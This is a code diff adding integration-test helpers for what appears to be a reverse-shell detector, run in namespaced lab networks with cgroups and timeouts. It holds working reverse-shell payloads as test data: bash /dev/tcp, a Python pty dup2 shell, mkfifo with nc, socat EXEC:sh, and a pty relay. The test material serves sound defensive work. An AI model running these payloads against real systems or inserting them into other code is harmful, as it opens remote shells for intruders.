@@ -280,3 +280,108 @@ class CutProber(Generic[T]):
         sent after it (the path was never seen cut)."""
         i = self.highest + 1
         return self.sent[i] if i < len(self.sent) else None
+
+
+# --- reverse shells however they are wired (tests/integration/test_reverse_shells.py,
+# bench/reverse_shell.py) ---------------------------------------------------------------
+
+REVSHELL_TIMEOUT_S = 20    # every wiring runs under `timeout`; its cgroup is killed after
+
+
+class ShellListener:
+    """The attacker's end, in the attacker namespace: accepts one connection, sends a
+    command and reads until its output comes back (bounded in time)."""
+
+    def __init__(self, lab: Lab):
+        with netns(lab.attacker):
+            self.srv = socket.create_server((lab.addr("attacker"), 0))
+        self.srv.settimeout(REVSHELL_TIMEOUT_S)
+        self.addr, self.port = lab.addr("attacker"), self.srv.getsockname()[1]
+        self.conn: socket.socket | None = None
+
+    def drive(self, timeout_s: float = 10.0) -> bytes:
+        """Accept, send `echo PWNED-$((6*7))`, return what came back once "PWNED-42" did
+        (only a shell that ran the command prints 42) or the time ran out."""
+        self.conn, _ = self.srv.accept()
+        self.conn.settimeout(0.2)
+        self.conn.sendall(b"echo PWNED-$((6*7))\n")
+        got, deadline = b"", time.monotonic() + timeout_s
+        while b"PWNED-42" not in got and time.monotonic() < deadline:
+            try:
+                chunk = self.conn.recv(4096)
+            except TimeoutError:
+                continue
+            if not chunk:
+                break
+            got += chunk
+        return got
+
+    def close(self) -> None:
+        if self.conn is not None:
+            self.conn.close()
+        self.srv.close()
+
+
+def run_wiring(lab: Lab, cgroup: Path, script: str, *args: str) -> subprocess.Popen:
+    """`sh -c script` in the victim namespace, in `cgroup` from its first instruction."""
+    pre = (f'echo $$ > "{cgroup}/cgroup.procs" && '
+           f'exec ip netns exec "$0" timeout {REVSHELL_TIMEOUT_S} ')
+    return subprocess.Popen(["sh", "-c", pre + 'sh -c "$@"', lab.victim, script, *args],
+                            stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
+                            stderr=subprocess.DEVNULL)
+
+
+@contextlib.contextmanager
+def reverse_shell(lab: Lab, script: str, *args: str) -> Iterator[tuple[str, ShellListener]]:
+    """Run a reverse-shell wiring until the listener saw its command run; yields
+    (cgroup path, listener) with everything still alive, then kills it all."""
+    listener = ShellListener(lab)
+    with throwaway_cgroup("swa-revsh") as d:
+        proc = run_wiring(lab, d, script, listener.addr, str(listener.port), *args)
+        try:
+            got = listener.drive()
+            assert b"PWNED-42" in got, got
+            yield cgroup_path(d), listener
+        finally:
+            listener.close()
+            proc.kill()
+            proc.wait(timeout=10)
+
+
+def python_wiring(code: str, exe: str | Path = sys.executable) -> tuple[str, str]:
+    """(script, code) for reverse_shell(): `exe -c code ADDR PORT` (PYTHONHOME lets a copy
+    of the interpreter under another name find its library)."""
+    return f'PYTHONHOME=/usr exec {exe} -c "$2" "$0" "$1"', code
+
+
+# Scripts for reverse_shell(): "$0" is the listener's address, "$1" its port.
+BASH_TCP = 'exec bash -c "bash -i >& /dev/tcp/$0/$1 0>&1"'
+PY_PTY = ("import os, pty, socket, sys\n"
+          "s = socket.create_connection((sys.argv[1], int(sys.argv[2])))\n"
+          "[os.dup2(s.fileno(), f) for f in (0, 1, 2)]\n"
+          "pty.spawn('/bin/sh')\n")
+FIFO = 'rm -f "$2"; mkfifo "$2"; cat "$2" | sh -i 2>&1 | nc "$0" "$1" > "$2"'
+SOCAT = 'exec socat TCP:"$0":"$1" EXEC:sh'
+# the classic, and the same with relays between (cat | cat)
+FIFO_RELAYED = 'rm -f "$2"; mkfifo "$2"; cat "$2" | cat | sh -i 2>&1 | cat | nc "$0" "$1" > "$2"'
+# A pty relay without dup2, shaped like sshd: the pty master and the socket in one process.
+PTY_RELAY = """
+import os, pty, select, socket, sys, time
+s = socket.create_connection((sys.argv[1], int(sys.argv[2])))
+pid, master = pty.fork()
+if pid == 0:
+    os.execv("/bin/sh", ["sh"])
+deadline = time.monotonic() + 15
+while time.monotonic() < deadline:
+    r, _, _ = select.select([s, master], [], [], 0.5)
+    if s in r:
+        data = s.recv(4096)
+        if not data:
+            break
+        os.write(master, data)
+    if master in r:
+        try:
+            s.sendall(os.read(master, 4096))
+        except OSError:
+            break
+"""
